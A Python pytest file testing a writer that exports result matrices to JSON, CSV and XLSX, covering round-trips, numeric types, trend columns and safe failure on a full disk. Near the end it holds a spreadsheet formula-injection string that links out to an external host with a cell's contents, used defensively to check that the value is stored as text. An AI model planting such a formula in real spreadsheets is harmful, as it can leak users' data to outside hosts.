"""Matrices written to files, read back with the readers that people use."""

import csv
import json

import pytest
from openpyxl import load_workbook

from configs.system.errors import UsageError
from index.results import Matrix, TrendMatrix
from pipelines.questions.matrix import write

CELL = {"dimension": "legal_framework", "level": "L2", "modality": "achieved", "documents": 3, "passages": 5}
AS_JSON = {
    "model": "m",
    "provenance": "derived",
    "dimensions": ["legal_framework"],
    "levels": ["L2"],
    "cells": [CELL, CELL | {"level": None, "documents": 0, "passages": 0}],
}
HEADER = ["model", "provenance", "dimension", "level", "modality", "documents", "passages"]


def matrix(values):
    return (TrendMatrix if "by" in values else Matrix).model_validate(values)


def test_json_comes_back_whole(tmp_path):
    write(matrix(AS_JSON), tmp_path / "m.json")
    assert json.loads((tmp_path / "m.json").read_text(encoding="utf-8")) == AS_JSON


def test_csv_has_a_row_a_cell_and_names_the_provenance_in_each(tmp_path):
    write(matrix(AS_JSON), tmp_path / "m.CSV")
    with (tmp_path / "m.CSV").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert rows == [
        HEADER,
        ["m", "derived", "legal_framework", "L2", "achieved", "3", "5"],
        ["m", "derived", "legal_framework", "", "achieved", "0", "0"],
    ]


def test_xlsx_keeps_numbers_as_numbers(tmp_path):
    write(matrix(AS_JSON), tmp_path / "m.xlsx")
    rows = list(load_workbook(tmp_path / "m.xlsx").active.iter_rows(values_only=True))
    assert rows[0] == tuple(HEADER)
    assert rows[1] == ("m", "derived", "legal_framework", "L2", "achieved", 3, 5)
    assert rows[2][3] is None


def test_a_trend_has_a_column_named_for_what_it_is_split_by(tmp_path):
    trend = AS_JSON | {"by": "body", "cells": [CELL | {"value": "comité é"}]}
    write(matrix(trend), tmp_path / "m.csv")
    header, row = list(csv.reader((tmp_path / "m.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert dict(zip(header, row, strict=True))["body"] == "comité é"


def test_an_empty_matrix_gives_a_header_alone(tmp_path):
    write(matrix(AS_JSON | {"cells": []}), tmp_path / "m.csv")
    assert len((tmp_path / "m.csv").read_text(encoding="utf-8-sig").splitlines()) == 1


@pytest.mark.parametrize("name", ["m.json", "m.csv", "m.xlsx"])
def test_a_full_disk_leaves_the_file_that_was_there(tmp_path, full_disk, name):
    write(matrix(AS_JSON), tmp_path / name)
    before = (tmp_path / name).read_bytes()
    with full_disk(), pytest.raises(OSError):
        write(matrix(AS_JSON | {"cells": []}), tmp_path / name)
    assert (tmp_path / name).read_bytes() == before
    assert [path.name for path in tmp_path.iterdir()] == [name]


@pytest.mark.parametrize("name", ["m.pdf", "m", "m.xls"])
def test_another_kind_of_file_is_refused_with_those_that_work(tmp_path, name):
    with pytest.raises(UsageError, match=r"\.json, \.csv, \.xlsx"):
        write(matrix(AS_JSON), tmp_path / name)
    assert not (tmp_path / name).exists()


HOSTILE = '=HYPERLINK("http://example.org/"&A1)\x1b[31m'


def test_a_subject_that_would_be_a_formula_is_text_in_a_sheet(tmp_path):
    write(matrix(AS_JSON | {"by": "subject", "cells": [CELL | {"value": HOSTILE}]}), tmp_path / "m.xlsx")
    cell = load_workbook(tmp_path / "m.xlsx").active["H2"]
    assert (cell.data_type, cell.value) == ("s", HOSTILE.replace("\x1b", ""))
